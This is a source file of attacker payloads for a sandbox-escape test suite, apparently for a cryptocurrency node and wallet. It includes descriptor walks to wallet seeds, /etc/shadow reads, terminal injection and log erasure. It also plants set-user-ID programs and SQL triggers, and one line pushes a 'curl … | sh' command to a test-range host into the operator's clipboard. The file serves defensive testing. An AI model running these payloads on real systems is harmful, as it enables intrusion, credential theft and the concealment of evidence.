"""Attacker code for tests/functional/test_sandbox_attacks.py.

Each constant is the body of a function that the harness (attack_site/sitecustomize.py) runs
inside a confined process of a real CleanCoin-node, with `ctx` (paths the test chose) and
`report(name, escaped, detail)`. An attempt reports escaped=True when the operation the
sandbox must deny went through. The code uses only the standard library and raw syscalls, as
an attacker inside the process would.
"""

# Shared helpers, prepended to every attack.
PRELUDE = r'''
import ctypes, errno, fcntl, mmap, os, resource, socket, struct, termios, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def try_read(path, dir_fd=None):
    try:
        fd = os.open(path, os.O_RDONLY, dir_fd=dir_fd)
    except OSError as exc:
        return None, exc.strerror
    try:
        return os.read(fd, 4096), "read"
    finally:
        os.close(fd)

def try_create(path, dir_fd=None):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600, dir_fd=dir_fd)
    except OSError as exc:
        return False, exc.strerror
    os.write(fd, b"pwned")
    os.close(fd)
    return True, "created"

def try_connect_unix(path):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError as exc:           # the node's filter: no unix socket of its own (12-07)
        return False, exc.strerror
    s.settimeout(2)
    try:
        s.connect(path)
        return True, "connected"
    except OSError as exc:
        return False, exc.strerror or str(exc)
    finally:
        s.close()

def refused_call():
    """A call every component policy refuses with an errno (logged by the denial monitor)."""
    attempt("refused-call")
    try:
        fcntl.ioctl(0, termios.TIOCSTI, b"#")
        report("refused-call", True, "TIOCSTI went through")
    except OSError as exc:
        report("refused-call", False, f"refused: {exc.strerror}")
    time.sleep(0.5)       # the monitor writes its line

def report_descriptors_of(name, suffix):
    """An escape if this process holds a descriptor of a file whose path ends in `suffix`."""
    leaked = []
    for fd in range(3, 1024):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.endswith(suffix):
            leaked.append(f"fd {fd} -> {target}")
    report(name, bool(leaked), "; ".join(leaked) or f"no descriptor of {suffix}")
'''

# Descriptors opened before restriction (issue #10, item 2): every open descriptor is tried as
# a directory to walk from, towards a wallet's files and into wallets/.
FD_WALK = r'''
targets = [ctx["seed_file"], ctx["walletdir"]]
hits = []
for fd in range(3, 512):
    try:
        os.fstat(fd)
    except OSError:
        continue
    for base in ("/", ctx["cwd"]):
        for target in targets:
            rel = os.path.relpath(target, base)
            if target == ctx["seed_file"]:
                data, how = try_read(rel, dir_fd=fd)
                if data:
                    hits.append(f"read {target} through fd {fd} (relative to {base})")
            else:
                ok, how = try_create(os.path.join(rel, f"pwned-{fd}"), dir_fd=fd)
                if ok:
                    hits.append(f"created a file in {target} through fd {fd}")
report("fd-walk-to-wallets", bool(hits), "; ".join(hits[:5]) or "every descriptor refused")
data, how = try_read(ctx["seed_file"])
report("read-wallet-by-path", bool(data), how)
'''

# Named unix sockets outside every grant (item 3).
UNIX_SOCKETS = r'''
attempt("connect-outside-socket")
ok, how = try_connect_unix(ctx["outside_sock"])
report("connect-outside-socket", ok, how)
if ctx.get("node_sock"):
    attempt("connect-node-sock")
    ok, how = try_connect_unix(ctx["node_sock"])
    report("connect-node-sock", ok, how)
if ctx.get("abstract_name"):
    # The host's abstract sockets (X11's @/tmp/.X11-unix/X0, systemd's notify socket, a
    # session bus): the node shares the host's network namespace. Landlock's scope (ABI 6)
    # refuses the connect; since 12-07 the node's filter refuses the socket before it.
    attempt("connect-host-abstract-socket")
    ok, how = try_connect_unix("\0" + ctx["abstract_name"])
    report("connect-host-abstract-socket", ok, how)
'''

# The wallet swaps its own temporary directory for a symlink to / and dies; the node restarts
# it, and the new wallet process tries to use what the swapped grant would give (item 1).
SYMLINK_SWAP = r'''
state = os.path.join(ctx["walletdir"], "attack-stage")
tmp = os.environ.get("TMPDIR", "")
if not os.path.exists(state):
    with open(state, "w") as handle:
        handle.write("1")
    detail = f"TMPDIR={tmp!r}"
    try:
        import shutil
        if os.path.islink(tmp) or not os.path.isdir(tmp):
            os.unlink(tmp)
        else:
            shutil.rmtree(tmp)
        os.symlink("/", tmp)
        detail += ": replaced by a symlink to /"
        swapped = True
    except OSError as exc:
        detail += f": cannot replace it: {exc.strerror}"
        swapped = False
    with open(os.path.join(ctx["walletdir"], "attack-stage1.json"), "w") as handle:
        import json
        json.dump({"swapped": swapped, "detail": detail}, handle)
    # This process now serves as usual; the test kills it (a crash), and the node restarts it.
else:
  data, how = try_read("/etc/shadow")
  report("read-etc-shadow", bool(data), how)
  data, how = try_read(ctx["canary"])
  report("read-outside-canary", bool(data), how)
  data, how = try_read(os.path.join(ctx["netdir"], ".cookie"))
  report("read-node-cookie", bool(data), how)
  ok, how = try_create(os.path.join(ctx["netdir"], "pwned-by-wallet"))
  report("write-node-datadir", ok, how)
  ok, how = try_create(os.path.join(ctx["outside_dir"], "pwned-by-wallet"))
  report("write-outside", ok, how)
'''

# Terminal descriptors inherited from the node (item 4).
TERMINAL = r'''
for fd in (0, 1, 2):
    try:
        tty = os.isatty(fd)
    except OSError:
        tty = False
    report(f"fd{fd}-is-a-terminal", tty, os.ttyname(fd) if tty else "not a terminal")
    try:
        attrs = termios.tcgetattr(fd)
        termios.tcsetattr(fd, termios.TCSANOW, attrs)
        report(f"fd{fd}-tcsets", True, "TCSETS went through")
    except (OSError, termios.error) as exc:
        report(f"fd{fd}-tcsets", False, str(exc))
try:
    os.set_blocking(0, False)
    typed = os.read(0, 100)
    report("read-keystrokes", bool(typed), repr(typed[:40]))
except OSError as exc:
    report("read-keystrokes", False, exc.strerror)
try:
    written = os.write(1, b"\x1b]0;" + ctx["marker"].encode() + b"\x07")
    report("write-escape-to-fd1", written > 0 and os.isatty(1), f"{written} bytes")
except OSError as exc:
    report("write-escape-to-fd1", False, exc.strerror)
'''

# The confined node's stdout and stderr, on a terminal: descriptors the shell opened for
# reading and writing. It reads what the operator types at that terminal through them (stdin
# is /dev/null, but 1 and 2 are the same terminal), then writes a line to each (allowed: the
# operator sees the node's output) holding escape sequences: OSC 52, which sets the clipboard
# of the operator's desktop (here to a command the operator may paste into a shell later),
# and CSI 2J, which clears the screen above (the refusals and warnings printed before).
NODE_TERMINAL = r"""
import base64
for fd in (0, 1, 2):
    attempt(f"read-fd{fd}")
    try:
        os.set_blocking(fd, False)
        typed = os.read(fd, 100)
        report(f"read-fd{fd}", bool(typed), repr(typed[:40]))
    except OSError as exc:
        report(f"read-fd{fd}", False, exc.strerror)
clipboard = b"\x1b]52;c;" + base64.b64encode(b"curl -s https://203.0.113.7/x | sh") + b"\x07"
for fd in (1, 2):
    os.write(fd, clipboard + b"\x1b[2J" + ctx["marker"].encode() + f"-fd{fd}".encode() + b"\n")
report("write-fd2", False, f"isatty {os.isatty(2)}")
"""

# The confined node was started on a terminal (since 12-06 its stdout and stderr are pipes to
# a relay; before, the terminal reopened write-only), and TCSETS, TCSETSW and TCSETSF are
# refused: it changes the terminal's modes with the other requests that set them, the old
# termio ones (TCSETA, TCSETAW, TCSETAF) and termios2's (TCSETS2 and kin), turning echo off
# (the operator's next password shows nothing on the screen, and the node's own canonical mode
# goes too); then the plain TCSETS as the control. Where the current modes cannot be read (fd 2
# is no terminal) it sends zeros, which the filter must refuse before the kernel looks at fd 2.
NODE_TERMIOS = r"""
import fcntl, struct, termios
TCSETA, TCSETAW, TCSETAF, TCGETA = 0x5406, 0x5407, 0x5408, 0x5405
TCGETS2, TCSETS2, TCSETSW2, TCSETSF2 = 0x802C542A, 0x402C542B, 0x402C542C, 0x402C542D
ECHO = 0o10
for name, get, put, size, lflag_at in (("TCSETA", TCGETA, TCSETA, 18, 6), ("TCSETAW", TCGETA, TCSETAW, 18, 6),
                                       ("TCSETAF", TCGETA, TCSETAF, 18, 6), ("TCSETS2", TCGETS2, TCSETS2, 44, 12),
                                       ("TCSETSW2", TCGETS2, TCSETSW2, 44, 12), ("TCSETSF2", TCGETS2, TCSETSF2, 44, 12),
                                       ("TCSETS", termios.TCGETS, termios.TCSETS, 60, 12)):
    attempt(name)
    try:
        try:
            buf = bytearray(fcntl.ioctl(2, get, bytes(size)))
        except OSError:
            buf = bytearray(size)
        fmt = "<H" if size == 18 else "<I"
        (lflag,) = struct.unpack_from(fmt, buf, lflag_at)
        struct.pack_into(fmt, buf, lflag_at, lflag & ~ECHO)
        fcntl.ioctl(2, put, bytes(buf))
        report(name, True, "echo turned off")
    except OSError as exc:
        report(name, False, exc.strerror)
"""

# The confined process (CleanCoin-node, or CleanCoin-wallet on its own) was started from an
# operator's interactive shell (operator_shell.py): the pty is its controlling terminal, its
# process group has the foreground, the shell is its session leader. It looks for any descriptor of that terminal (inherited ones, /dev/tty, the
# pty by name, other processes' descriptors through /proc), and with each it finds pushes
# input (TIOCSTI), turns echo off (TCSETS), resizes it (TIOCSWINSZ), takes the foreground
# (TIOCSPGRP), gives it up (TIOCNOTTY), redirects the console (TIOCCONS) and hangs it up
# (TIOCVHANGUP); then it writes a line of its own (allowed: the operator sees it), sends
# SIGKILL to the operator's shell (its session leader) and to the shell's process group, and
# tries vhangup(2) last (a filter may kill the process for a call not on its list: then the
# attempts after it do not run). ctx: pty (the slave's path), marker.
CONTROLLING_TERMINAL = r"""
import fcntl, signal, struct, termios
ctx["shell"] = os.getppid()     # the shell, session leader (getsid(2) may kill: not on the list)
TIOCSPGRP, TIOCNOTTY, TIOCCONS, TIOCVHANGUP, TIOCSWINSZ = 0x5410, 0x5422, 0x541D, 0x5437, 0x5414
found = {}
for fd in range(0, 1024):
    try:
        if os.isatty(fd):
            found[fd] = f"inherited fd {fd}"
    except OSError:
        pass
report("inherited-terminal", bool(found), ", ".join(found.values()) or "no descriptor is a terminal")
paths = ["/dev/tty", ctx["pty"], "/dev/ptmx", "/dev/console", "/dev/tty0"]
try:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            paths += [f"/proc/{pid}/fd/{n}" for n in (0, 1, 2, 255)]
except OSError:
    pass
opened = []
for path in paths:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError as exc:
        if path in ("/dev/tty", ctx["pty"]):
            report(f"open-{path}", False, exc.strerror)
        continue
    if os.isatty(fd):
        found[fd] = f"opened {path}"
        opened.append(path)
    else:
        os.close(fd)
report("open-terminal", bool(opened), ", ".join(opened[:6]) or "no path opened a terminal")
for fd, how in found.items():
    for name, call in (
            ("TIOCSTI", lambda: fcntl.ioctl(fd, termios.TIOCSTI, b"#")),
            ("TCSETS-echo-off", lambda: termios.tcsetattr(fd, termios.TCSANOW, (lambda a: a[:3] + [a[3] & ~termios.ECHO] + a[4:])(termios.tcgetattr(fd)))),
            ("TIOCSWINSZ", lambda: fcntl.ioctl(fd, TIOCSWINSZ, struct.pack("HHHH", 3, 7, 0, 0))),
            ("TIOCSPGRP", lambda: fcntl.ioctl(fd, TIOCSPGRP, struct.pack("i", os.getpid()))),
            ("TIOCCONS", lambda: fcntl.ioctl(fd, TIOCCONS, 0)),
            ("TIOCNOTTY", lambda: fcntl.ioctl(fd, TIOCNOTTY, 0)),
            ("read", lambda: os.read(fd, 100)),
            ("TIOCVHANGUP", lambda: fcntl.ioctl(fd, TIOCVHANGUP, 0))):
        attempt(f"{name}-via-{how}")
        try:
            call()
            report(f"{name}-via-{how}", True, "went through")
        except (OSError, termios.error) as exc:
            report(f"{name}-via-{how}", False, str(exc))
# The same requests on fd 2 (a pipe to the relay): the filter answers EPERM before the kernel
# looks at the descriptor; ENOTTY means it let the request through (until 12-07 for all but
# TIOCSTI: only the missing descriptor stopped them).
for name, request in (("TIOCSCTTY", 0x540E), ("TIOCSPGRP", TIOCSPGRP), ("TIOCSWINSZ", TIOCSWINSZ),
                      ("TIOCCONS", TIOCCONS), ("TIOCNOTTY", TIOCNOTTY), ("TIOCVHANGUP", TIOCVHANGUP),
                      ("TCFLSH", 0x540B), ("TCXONC", 0x540A), ("TIOCSTI", termios.TIOCSTI)):
    try:
        fcntl.ioctl(2, request, bytes(8))
        report(f"filter-{name}", False, "no error")
    except OSError as exc:
        report(f"filter-{name}", False, exc.strerror)
os.write(1, ctx["marker"].encode() + b"-allowed-output\n")
for name, pid in (("kill-session-leaders-group", -ctx["shell"]), ("kill-session-leader", ctx["shell"])):
    attempt(name)
    try:
        os.kill(pid, signal.SIGKILL)
        report(name, True, f"SIGKILL sent to {pid}")
    except OSError as exc:
        report(name, False, exc.strerror)
time.sleep(0.5)
attempt("vhangup")
rc = libc.syscall(153)
report("vhangup", rc == 0, f"vhangup returned {rc}, errno {ctypes.get_errno()}")
"""

# The smaller holes (item 5).
SMALL_HOLES = r'''
CLONE_NEWUSER, CLONE_NEWNET, SIGCHLD = 0x10000000, 0x40000000, 17
pid = libc.syscall(56, CLONE_NEWUSER | CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
if pid > 0:
    os.waitpid(pid, 0)
report("clone-newuser", pid > 0, f"clone returned {pid}, errno {ctypes.get_errno()}")
libc.prctl(4, 1, 0, 0, 0)                     # PR_SET_DUMPABLE 1
dumpable = libc.prctl(3, 0, 0, 0, 0)          # PR_GET_DUMPABLE
report("prctl-dumpable-on", dumpable == 1, f"dumpable is {dumpable}")
try:
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.close()
    report("mmap-wx", True, "a writable and executable mapping")
except OSError as exc:
    report("mmap-wx", False, exc.strerror)
children = []
for _ in range(200):
    try:
        child = os.fork()
    except OSError as exc:
        break
    if child == 0:
        time.sleep(5)
        os._exit(0)
    children.append(child)
for child in children:
    os.kill(child, 9)
    os.waitpid(child, 0)
report("fork-200", len(children) >= 200, f"{len(children)} children")
fds = []
try:
    for _ in range(20000):
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
for fd in fds:
    os.close(fd)
report("open-20000-fds", len(fds) >= 20000, f"{len(fds)} descriptors")
big = os.path.join(ctx["walletdir"], "sparse")
try:
    fd = os.open(big, os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        os.pwrite(fd, b"x", 1 << 40)
        report("sparse-1tib-file", True, "wrote at 1 TiB")
    finally:
        os.close(fd)
        os.unlink(big)
except OSError as exc:
    report("sparse-1tib-file", False, exc.strerror)
'''

# Memory the kernel can neither swap nor reclaim: mlock is the wallet's (its seeds), its
# RLIMIT_MEMLOCK must bound it whatever the launcher's was.
MEMLOCK = r'''
def lock(size):
    region = mmap.mmap(-1, size)
    address = ctypes.addressof(ctypes.c_char.from_buffer(region))
    ok = libc.mlock(ctypes.c_void_p(address), ctypes.c_size_t(size)) == 0
    return region, ("locked" if ok else os.strerror(ctypes.get_errno()))
page, page_result = lock(mmap.PAGESIZE)
report("control-mlock-one-page", False, page_result)
big, big_result = lock(ctx["lock_bytes"])
report("mlock-beyond-the-policy", big_result == "locked", f"{ctx['lock_bytes']} bytes: {big_result}")
'''

# A wallet process started on its own, confined by policies/wallet-standalone.toml (item 7).
STANDALONE = r'''
data, how = try_read(os.path.join(ctx["netdir"], "chainstate.sqlite"))
report("read-node-chain", bool(data), how)
data, how = try_read(ctx["canary"])
report("read-outside-canary", bool(data), how)
ok, how = try_create(os.path.join(ctx["netdir"], "pwned-by-wallet"))
report("write-node-datadir", ok, how)
try:
    os.listdir(ctx["walletdir"])
    report("control-walletdir", False, "listed (allowed, as it should be)")
except OSError as exc:
    report("control-walletdir", True, f"its own wallet directory is not readable: {exc.strerror}")
# A refused call, then an attempt to erase its record: the wallet may rewrite its own log,
# but its refusals go to its stderr (a pipe here, as under a supervisor).
refused_call()
with open(os.path.join(ctx["walletdir"], "debug.log"), "r+") as handle:
    handle.truncate(0)
attempt("erase-stderr")
try:
    os.ftruncate(2, 0)
    report("erase-stderr", True, "truncated its stderr")
except OSError as exc:
    report("erase-stderr", False, f"ftruncate(2): {exc.strerror}")
# Last: socket(2) of any family kills the wallet (its policy denies the call outright).
attempt("connect-outside-socket")
ok, how = try_connect_unix(ctx["outside_sock"])
report("connect-outside-socket", ok, how)
'''

# The confined node plants what its next start-up reads from the directory it may write: a
# conf file in its datadir (as on mainnet, where the network datadir is the datadir), then a
# log that is a link elsewhere. Then it dies, as a crash would, and waits for the supervisor.
PERSIST = r'''
conf = ctx["conf"]
try:
    with open(conf, "a") as handle:
        handle.write("\nsandbox=0\n")
    report("append-to-conf", True, "appended sandbox=0")
except OSError as exc:
    report("append-to-conf", False, exc.strerror)
try:
    with open(conf + ".new", "w") as handle:
        handle.write("sandbox=0\n")
    os.rename(conf + ".new", conf)
    report("replace-conf", True, "renamed a new conf over it")
except OSError as exc:
    report("replace-conf", False, exc.strerror)
try:
    os.unlink(conf)
    report("remove-conf", True, "removed it (the next start would create nothing and read nothing)")
except OSError as exc:
    report("remove-conf", False, exc.strerror)
log = os.path.join(ctx["netdir"], "debug.log")
attempt("plant-log-link")
os.unlink(log)
os.symlink(ctx["victim"], log)
report("plant-log-link", True, "debug.log -> victim: the next start appends its log there")
os._exit(3)
'''

# The denial log's monitor, from the confined process it serves: the test writes the monitor's
# pid (as this process numbers it) into a file of the process's own directory, since a confined
# process cannot look for it in /proc. Signalling it, opening its memory, its descriptors.
MONITOR = r'''
where = ctx["walletdir"] if ctx["role"] == "wallet" else ctx["netdir"]
path = os.path.join(where, "monitor_pid")
deadline = time.time() + 30
data = None
while data is None and time.time() < deadline:   # open, not stat: the wallet's filter kills stat
    data, _how = try_read(path)
    if data is None:
        time.sleep(0.05)
pid = int(data)
for what in ("mem", "environ"):
    data, how = try_read(f"/proc/{pid}/{what}")
    report(f"monitor-{what}", data is not None, how)
try:
    fd = os.open(f"/proc/{pid}/fd", os.O_RDONLY | os.O_DIRECTORY)
    os.close(fd)
    report("monitor-fds", True, "its descriptor directory opened")
except OSError as exc:
    report("monitor-fds", False, exc.strerror)
attempt("kill-monitor")          # the wallet's filter kills on kill(2): last
try:
    os.kill(pid, 9)
    report("kill-monitor", True, f"SIGKILL to {pid} delivered")
except OSError as exc:
    report("kill-monitor", False, exc.strerror)
'''

# One refusal with an errno, for its record (the denial monitor's line).
REFUSED = r'''
refused_call()
'''

# Output the zygote relays, without a newline: the zygote (unconfined) must not hold it.
OUTPUT_FLOOD = r'''
attempt("stderr-without-newline")
chunk = b"W" * 65536
for _ in range(ctx["flood_mib"] * 16):
    os.write(2, chunk)
os.write(2, b"\nend of the flood\n")
report("stderr-without-newline", False, f"wrote {ctx['flood_mib']} MiB to stderr without a newline "
       "(judged from outside, by the zygote's peak memory)")
'''

# The record of what the wallet tried: it makes a refused call (TIOCSTI: EPERM, logged by its
# denial monitor), then tries to erase the log of it: the wallets' debug.log (its own), and
# the node's debug.log, where the refusal is.
ERASE_DENIALS = r'''
refused_call()
# Its own log it may rewrite (not an escape); the sandbox log must be out of reach.
for name, path, escapes in (("erase-wallet-log", os.path.join(ctx["walletdir"], "debug.log"), False),
                            ("erase-sandbox-log", os.path.join(ctx["netdir"], "sandbox.log"), True)):
    attempt(name)
    try:
        with open(path, "r+") as handle:
            handle.truncate(0)
        report(name, escapes, f"truncated {path}")
    except OSError as exc:
        report(name, False, f"{path}: {exc.strerror}")
report_descriptors_of("sandbox-log-descriptor", "sandbox.log")
'''

# A set-user-ID program planted on the host: the wallet writes a program into its directory and
# gives it the set-user-ID bit, three ways (chmod, fchmod, created so by open). The view mounts
# the grant nosuid, but only in the sandbox: on the host the file is a set-user-ID program of
# the node's user (root, as CI and many containers run it), which anyone who can reach it runs
# with that user's rights. ctx["program"] is the program's bytes (hex); the test runs what is
# left as another user. open() with the bit creates an empty file (a write would clear the bit
# again). A plain chmod must still work.
PLANT_SUID = r"""
program = bytes.fromhex(ctx["program"])
S_ISUID, S_ISGID = 0o4000, 0o2000

def planted(name, how):
    path = os.path.join(ctx["walletdir"], name)
    attempt(name)
    try:
        how(path)
    except OSError as exc:
        report(name, False, f"refused: {exc.strerror}")
        return
    mode = os.stat(path).st_mode
    report(name, bool(mode & (S_ISUID | S_ISGID)), f"mode {mode:o}")

def write(path, mode=0o755):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
    os.write(fd, program)
    return fd

def by_chmod(path):
    os.close(write(path))
    os.chmod(path, 0o4755)

def by_fchmod(path):
    fd = write(path)
    try:
        os.fchmod(fd, 0o6755)
    finally:
        os.close(fd)

def by_open(path):
    # Empty: a write by a process without CAP_FSETID clears the bit again (so would ftruncate).
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o4755))

planted("suid-by-chmod", by_chmod)
planted("suid-by-fchmod", by_fchmod)
planted("suid-by-open", by_open)
plain = os.path.join(ctx["walletdir"], "plain-chmod")
os.close(write(plain, 0o600))
os.chmod(plain, 0o700)          # among the owner's bits: group and other are refused (LOOSEN_MODES)
report("plain-chmod", False, f"mode {os.stat(plain).st_mode & 0o7777:o}")
"""

# The record of what the wallet tried, buried instead of erased: the monitor writes at most 120
# lines a minute, and a refusal past that budget is only counted. So the wallet first spends
# the budget on refusals nobody cares about (clone with namespace flags, each with other high
# bits: a new kind each time), then makes the calls it wants nobody to read about: TIOCSTI
# (input pushed into a terminal) and PR_SET_DUMPABLE (its memory opened to the same user).
# Before 12-06 the log then said only "2 more lines of refusals not logged".
BURY_DENIALS = r"""
decoys = ctx["decoys"]
refused = 0
for i in range(decoys):
    flags = 0x10000000 | ((i + 1) << 32)          # CLONE_NEWUSER, and bits that make it new
    if libc.syscall(ctypes.c_long(56), ctypes.c_ulong(flags), 0, 0, 0, 0) == -1 and ctypes.get_errno() == errno.EPERM:
        refused += 1
report("decoys", refused != decoys, f"{refused} of {decoys} decoy clone calls refused")
refused_call()                                     # TIOCSTI on fd 0
attempt("dumpable-on")
libc.prctl(4, 1, 0, 0, 0)                          # PR_SET_DUMPABLE 1
report("dumpable-on", libc.prctl(3, 0, 0, 0, 0) == 1, "dumpable is " + str(libc.prctl(3, 0, 0, 0, 0)))
"""

# The confined node makes a refused call, then tries to erase the record of it. It may rewrite
# its own debug.log (it writes it), so the record must be somewhere it cannot change: its
# sandbox log, read-only in its view, appended to by its monitor through a descriptor the node
# does not hold.
NODE_ERASE_DENIALS = r"""
refused_call()
debug_log = os.path.join(ctx["netdir"], "debug.log")
with open(debug_log, "r+") as handle:        # its own log: allowed
    handle.truncate(0)
sandbox_log = os.path.join(ctx["netdir"], "sandbox.log")
attempt("truncate-sandbox-log")
try:
    with open(sandbox_log, "r+") as handle:
        handle.truncate(0)
    report("truncate-sandbox-log", True, f"truncated {sandbox_log}")
except OSError as exc:
    report("truncate-sandbox-log", False, exc.strerror)
attempt("replace-sandbox-log")
try:
    with open(sandbox_log + ".new", "w") as handle:
        handle.write("nothing happened here\n")
    os.replace(sandbox_log + ".new", sandbox_log)
    report("replace-sandbox-log", True, "replaced it")
except OSError as exc:
    report("replace-sandbox-log", False, exc.strerror)
attempt("remove-sandbox-log")
try:
    os.unlink(sandbox_log)
    report("remove-sandbox-log", True, "removed it")
except OSError as exc:
    report("remove-sandbox-log", False, exc.strerror)
report_descriptors_of("sandbox-log-descriptor", "sandbox.log")
"""

# The confined node fills the filesystem its datadir is on (it may write there: blocks,
# chainstate), makes a refused call while nothing can be written, then frees the space and
# makes another. Neither refusal may go unrecorded: a monitor whose write failed must neither
# lose the line (the sandbox log keeps space of its own) nor stop (after which the kernel
# answers ENOSYS and nothing is logged again). Nothing is reported while the disk is full: the
# results file could not be written either.
NODE_FILL_DISK = r"""
filler = os.path.join(ctx["netdir"], "filler")
chunk = b"\0" * (1 << 20)
fd = os.open(filler, os.O_WRONLY | os.O_CREAT | os.O_CLOEXEC, 0o600)
full = "not full"
try:
    while True:
        try:
            os.write(fd, chunk)
        except OSError as exc:
            if exc.errno != errno.ENOSPC:
                full = exc.strerror
                break
            if len(chunk) == 1:
                full = "full"
                break
            chunk = chunk[:len(chunk) // 2]      # down to the last byte
finally:
    os.close(fd)
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"#")
    while_full = "TIOCSTI went through"
except OSError as exc:
    while_full = f"refused: {exc.strerror}"
time.sleep(1.0)          # the monitor writes its line now, or fails to
os.unlink(filler)
report("fill-disk", False, f"{full}; {while_full}")
time.sleep(0.3)
attempt("refused-after")
try:
    fcntl.ioctl(2, termios.TIOCSTI, b"#")
    report("refused-after", True, "TIOCSTI went through")
except OSError as exc:
    report("refused-after", False, f"refused: {exc.strerror}")
time.sleep(0.5)
"""

# Attacker code in the confined node calls the wallet's registered handler itself, as a
# compromised node would (no RPC client, no forwarding rules in the way): first a read-only
# method, then sendtoaddress.
NODE_CALLS_WALLET = r"""
import asyncio, gc, json
from cleancoin.components.interfaces.chain import RpcRequest
deadline = time.time() + 40
handler = loop = None
while handler is None and time.time() < deadline:
    regs = [o for o in gc.get_objects() if type(o).__name__ == "_Registration" and getattr(o, "live", False)]
    loops = [o for o in gc.get_objects() if isinstance(o, asyncio.AbstractEventLoop) and o.is_running()]
    if regs and loops:
        handler, loop = regs[-1].handler, loops[0]
    else:
        time.sleep(0.2)
if handler is None:
    report("found-registration", False, "no wallet registration within 40 s")
else:
    def call(method, params):
        request = RpcRequest(method, json.dumps(params), "w")
        response = asyncio.run_coroutine_threadsafe(handler.execute(request), loop).result(20)
        return {"ok": response.ok, "code": response.error_code, "message": response.error_message,
                "result": json.loads(response.result) if response.ok else None}
    address = call("getnewaddress", [])
    report("read-method", False, json.dumps(address))
    attempt("spend")
    spent = call("sendtoaddress", [address["result"], 1])
    # Reaching sendtoaddress at all is the escape in read mode (funds or not).
    report("spend", spent["code"] != -32601, json.dumps(spent))
"""

# A learning run (-sandboxlearn=DIR) is not a sandbox, but what it writes down becomes the next
# policy. The node, which faces the network, forges the wallet's records so that the wallet's
# learned policy would grant it an inet socket and connect(2): the wallet process holds the keys
# and its shipped policy has no socket(2) at all. It also tries to add to its own record file.
FORGE_RECORDS = r'''
import glob, json
records = ctx["records"]
attempt("list-records")
try:
    names = os.listdir(records)
    report("list-records", bool(names), f"saw {len(names)} entries: {names[:4]}")
except OSError as exc:
    names = []
    report("list-records", False, exc.strerror)
forged = [json.dumps(r) for r in (
    {"t": "header", "policy": "wallet", "files": [], "entry": "launch", "pid": 1, "variables": {}},
    {"t": "syscall", "nr": 41}, {"t": "syscall", "nr": 42},
    {"t": "socket", "family": 2, "type": 1},
    {"t": "connect", "family": 2, "port": 8333, "addr": "203.0.113.7"},
    {"t": "path", "path": ctx["canary"], "access": "read"},
)]
attempt("forge-wallet-record")
ok, detail = try_create(os.path.join(records, "wallet.1.forged.jsonl"))
if ok:
    with open(os.path.join(records, "wallet.1.forged.jsonl"), "w") as handle:
        handle.write("\n".join(forged) + "\n")
report("forge-wallet-record", ok, detail)
attempt("append-own-record")
appended = []
for name in names:
    try:
        with open(os.path.join(records, name), "a") as handle:
            handle.write(forged[-1] + "\n")
        appended.append(name)
    except OSError:
        continue
report("append-own-record", bool(appended), ", ".join(appended) or "no record file could be written")
'''


# A compromised wallet process fills the filesystem it shares with the node (its wallets/
# directory): files of up to 8 MiB each (a per-file limit, RLIMIT_FSIZE, would not stop it),
# down to the last byte. The result file lives on that filesystem too, so the outcome is
# reported before the last bytes go and judged from outside.
WALLET_FILL_DISK = r"""
attempt("fill-disk")
written, files, reported = 0, 0, False
chunk = b"\0" * (1 << 20)
while chunk:
    try:
        fd = os.open(os.path.join(ctx["walletdir"], f"filler{files}"),
                     os.O_WRONLY | os.O_CREAT | os.O_CLOEXEC, 0o600)
    except OSError as exc:
        break
    files += 1
    size = 0
    try:
        while chunk and size < (8 << 20):
            try:
                size += os.write(fd, chunk)
            except OSError as exc:
                chunk = chunk[:len(chunk) // 2]
                if len(chunk) < (64 << 10) and not reported:
                    reported = True       # while a page or two is still free for the report
                    report("fill-disk", False, f"{exc.strerror} after {written + size} bytes")
    finally:
        written += size
        os.close(fd)
"""

# The wallet process plants SQL in a wallet file it may write (its own wallets/): a trigger
# that runs in whichever program next writes a label to that wallet. CleanCoind, CleanCoin-qt
# and the offline tool open the file unconfined. Writing its own file is allowed; what the
# test judges is whether the next opener runs what was planted.
PLANT_SQL = r'''
import sqlite3
path = os.path.join(ctx["walletdir"], ctx["wallet"], "wallet.sqlite")
attempt("plant-trigger")
conn = sqlite3.connect(path, isolation_level=None, timeout=10)
conn.execute("CREATE TRIGGER planted AFTER INSERT ON labels BEGIN "
             "INSERT OR REPLACE INTO meta VALUES ('planted', 'ran in the next opener'); END")
conn.close()
report("plant-trigger", False, "planted in its own wallet file")
'''

# The confined node, compromised, lies to its wallet process about the minimum relay fee rate
# (Chain.relayMinFee), the rate a wallet without settxfee paid: 200 coins per 1000 bytes (above
# any cap), or, `node_inflates_fee(rate)`, a rate that keeps a payment's fee just under the
# default cap. The wallet signs what it builds; the node (or a miner it works for) collects the
# fee. Changing its own answers is what any compromised node can do; what the test judges is
# what the wallet pays.
def node_inflates_fee(units_per_kb: int) -> str:
    """The attack above, the node answering `units_per_kb`."""
    return ("import cleancoin.components.node.chain_binding as binding\n"
            "attempt('inflate-relay-fee')\n"
            "async def relay_min_fee(self):\n"
            f"    return {units_per_kb}\n"
            "binding.NodeChain.relay_min_fee = relay_min_fee\n"
            f"report('inflate-relay-fee', False, 'the node now answers {units_per_kb} units per 1000 bytes')\n")


NODE_INFLATES_FEE = node_inflates_fee(200 * 100_000_000)

def plant_settings(text_expression: str, what: str) -> str:
    """The wallet process writes wallets/settings.json (the wallets loaded at start), which its
    own next start reads, and so do CleanCoind and CleanCoin-qt on the same datadir,
    unconfined: the file becomes the value of the Python expression `text_expression`."""
    return ('attempt("plant-settings")\n'
            'with open(os.path.join(ctx["walletdir"], "settings.json"), "w") as f:\n'
            f"    f.write({text_expression})\n"
